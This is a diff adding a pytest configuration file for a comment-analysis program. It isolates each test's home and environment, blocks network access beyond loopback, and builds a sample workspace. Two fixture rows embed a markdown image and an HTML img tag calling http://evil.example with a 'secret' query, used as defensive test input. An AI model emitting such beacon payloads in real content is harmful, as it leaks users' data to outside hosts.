@@ -1,0 +1,156 @@
+"""What every test runs under: a home and a folder of its own, a clean environment, and no network but loopback."""
+
+import ipaddress
+import json
+import os
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck
+from hypothesis import settings as hypothesis_settings
+
+from analyzer.config import PREFIX, PROJECT
+from analyzer.models.catalog import is_present, load_catalog
+
+SHARED = PROJECT.parent / "shared"
+REAL_HOME = Path.home()
+TEST_MODELS = ("all-MiniLM-L6-v2", "en_core_web_sm", "smollm2-135m-instruct-q4_1")
+
+hypothesis_settings.register_profile(
+    "tests", deadline=None, print_blob=True, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
+)
+hypothesis_settings.load_profile("tests")
+
+
+class EgressError(Exception):
+    """A test tried to reach something that is not this machine; no OSError, so that no code takes it for an outage."""
+
+
+@pytest.fixture(autouse=True)
+def _surroundings(tmp_path_factory: pytest.TempPathFactory) -> Iterator[None]:
+    """Give each test its own home and working folder; whatever it does to the environment is undone."""
+    before, cwd = dict(os.environ), Path.cwd()
+    for name in [name for name in os.environ if name.startswith(PREFIX)]:
+        del os.environ[name]
+    os.environ.setdefault("PLAYWRIGHT_BROWSERS_PATH", str(REAL_HOME / ".cache" / "ms-playwright"))
+    os.environ["HOME"] = str(tmp_path_factory.mktemp("home"))
+    os.chdir(tmp_path_factory.mktemp("cwd"))
+    yield
+    os.chdir(cwd)
+    os.environ.clear()
+    os.environ.update(before)
+
+
+@pytest.fixture(autouse=True)
+def egress(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
+    """Refuse every address that is not loopback; a test that was refused fails even if the error was swallowed."""
+    attempts: list[str] = []
+
+    def guard(name: str, host_of) -> None:
+        real = getattr(socket.socket, name)
+
+        def checked(self: socket.socket, *arguments):
+            address = host_of(arguments)
+            if self.family != socket.AF_UNIX and not _is_loopback(address):
+                attempts.append(f"{name} {address!r}")
+                raise EgressError(f"{name} to {address!r}")
+            return real(self, *arguments)
+
+        monkeypatch.setattr(socket.socket, name, checked)
+
+    guard("connect", lambda arguments: arguments[0])
+    guard("connect_ex", lambda arguments: arguments[0])
+    guard("sendto", lambda arguments: arguments[-1])
+    look_up = socket.getaddrinfo
+
+    def getaddrinfo(host, *arguments, **options):
+        if host is not None and not _is_loopback((host,)):
+            attempts.append(f"getaddrinfo {host!r}")
+            raise EgressError(f"getaddrinfo {host!r}")
+        return look_up(host, *arguments, **options)
+
+    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
+    yield attempts
+    assert not attempts, f"tried to leave this machine: {attempts}"
+
+
+def _is_loopback(address: object) -> bool:
+    host = address[0] if isinstance(address, tuple) else address
+    host = host.decode() if isinstance(host, bytes) else str(host)
+    if host in ("", "localhost", "localhost.localdomain"):
+        return True
+    try:
+        return ipaddress.ip_address(host.partition("%")[0]).is_loopback
+    except ValueError:
+        return False
+
+
+@pytest.fixture(scope="session")
+def shared() -> Path:
+    """The data sets shared beside the checkout; a test that needs them is skipped where they are not."""
+    if not SHARED.is_dir():
+        pytest.skip(f"shared data sets are not at {SHARED}")
+    return SHARED
+
+
+@pytest.fixture(scope="session")
+def models_dir() -> Path:
+    """The real models that tests use; they are small."""
+    folder = PROJECT / "models"
+    catalog = load_catalog(folder)
+    missing = [name for name in TEST_MODELS if not is_present(folder, catalog.get(name))]
+    if missing:
+        pytest.fail(f"models {', '.join(missing)} are not in {folder}; run: make test", pytrace=False)
+    return folder
+
+
+@dataclass(frozen=True)
+class RealWorkspace:
+    """A small workspace made by the installed program with the small real models; `run` is its command line."""
+
+    environ: dict[str, str]
+    report: dict[str, object]
+    seconds: float
+
+    def run(self, *arguments: str) -> subprocess.CompletedProcess[str]:
+        """Run one command in a process of its own."""
+        return _analyzer(self.environ, *arguments)
+
+
+HOSTILE_ROWS = (
+    "X-1,2024-05-01,web,Zeppelin,South,1,,The zeppelin balloon was punctured ![x](http://evil.example/?q=secret),",
+    "X-2,2024-05-02,web,Zeppelin,South,1,,My zeppelin balloon was punctured <img src=http://evil.example/x> too,",
+)
+
+
+@pytest.fixture(scope="session")
+def real_workspace(models_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> RealWorkspace:
+    """60 comments of the example and two that try to make a browser ask another host; made once, then added to."""
+    folder = tmp_path_factory.mktemp("real")
+    environ = {name: value for name, value in os.environ.items() if not name.startswith(PREFIX)}
+    environ |= {
+        "ANALYZER_WORKSPACE": str(folder / "workspace"),
+        "ANALYZER_KEYS_DIR": str(folder / "keys"),
+        "ANALYZER_MODELS_DIR": str(models_dir),
+        "ANALYZER_ANSWERING_MODEL": TEST_MODELS[2],
+        "HOME": str(folder),
+    }
+    lines = (PROJECT / "examples" / "feedback.csv").read_text(encoding="utf-8").splitlines()[:61]
+    file = folder / "feedback.csv"
+    file.write_text("\n".join([*lines, *HOSTILE_ROWS, ""]), encoding="utf-8")
+    started = time.monotonic()
+    assert _analyzer(environ, "init").returncode == 0
+    done = _analyzer(environ, "ingest", str(file), "--json")
+    assert done.returncode == 0, done.stderr
+    return RealWorkspace(environ, json.loads(done.stdout), time.monotonic() - started)
+
+
+def _analyzer(environ: dict[str, str], *arguments: str) -> subprocess.CompletedProcess[str]:
+    command = [sys.executable, "-m", "analyzer", *arguments]
+    return subprocess.run(command, env=environ, capture_output=True, text=True, timeout=300, check=False)
